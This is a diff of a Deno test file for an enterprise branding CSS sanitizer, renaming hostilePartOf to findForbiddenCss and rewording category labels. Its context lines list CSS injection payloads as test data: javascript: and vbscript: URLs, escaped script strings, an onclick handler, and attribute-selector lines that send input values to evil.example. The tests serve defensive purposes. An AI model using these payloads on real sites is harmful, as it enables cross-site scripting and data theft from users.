@@ -1,7 +1,7 @@
 import { equal, ok } from "node:assert/strict";
 import {
   CUSTOM_CSS_MAX,
-  hostilePartOf,
+  findForbiddenCss,
 } from "../../../../services/enterprise/branding/css_sanitizer.ts";
 
 /** A character that nobody sees, or that tells no letters apart. */
@@ -72,7 +72,7 @@ for (
       "a{list-style-image:url(javascript:alert(1))}",
       "a{-x:javascript:alert(1)}",
     ],
-    "vbscript: or the like": [
+    "vbscript: or another script URL": [
       "a{background:url(vbscript:msgbox(1))}",
       "a{background:url(VBScript:msgbox(1))}",
       String.raw`a{background:url(\76 bscript:msgbox(1))}`,
@@ -132,7 +132,7 @@ for (
       "<![CDATA[",
       String.raw`a{content:"\3cscript>"}`,
     ],
-    "< without a space behind it": [
+    "< without a space after it": [
       "<b>x",
       "a{content:'<x onclick=alert(1)>'}",
       "@media (300px<width){}",
@@ -169,7 +169,7 @@ for (
       "@font-face{font-family:x;src:src('https://evil.example/x')}",
       String.raw`a{background:im\61ge-set('//evil.example/x' 1x)}`,
     ],
-    "url() of anything but data:image/... or #id": [
+    "url() other than data:image/... or #id": [
       "input[value^=a]{background:url(https://evil.example/a)}",
       "input[value^=a]{background:url( 'https://evil.example/a' )}",
       "input[value^=a]{background:url(//evil.example/a)}",
@@ -213,7 +213,7 @@ for (
 ) {
   for (const css of attacks) {
     Deno.test(`refused for ${what}: ${JSON.stringify(css)}`, () => {
-      equal(hostilePartOf(css), what);
+      equal(findForbiddenCss(css), what);
     });
   }
 }
@@ -249,7 +249,7 @@ for (
     ".resource { top: 0 } .a-link-x { left: 0 } .no-progid { right: 0 }",
   ]
 ) {
-  Deno.test(`accepted: ${JSON.stringify(css)}`, () => equal(hostilePartOf(css), undefined));
+  Deno.test(`accepted: ${JSON.stringify(css)}`, () => equal(findForbiddenCss(css), undefined));
 }
 
 Deno.test("the longest style sheets are checked quickly, whatever they are made of", () => {
@@ -275,7 +275,7 @@ Deno.test("the longest style sheets are checked quickly, whatever they are made 
   for (const pattern of patterns) {
     const css = pattern.repeat(Math.ceil(CUSTOM_CSS_MAX / pattern.length)).slice(0, CUSTOM_CSS_MAX);
     const started = performance.now();
-    hostilePartOf(css);
+    findForbiddenCss(css);
     const ms = performance.now() - started;
     ok(ms < 1_000, `${JSON.stringify(pattern)}: ${ms} ms`);
   }
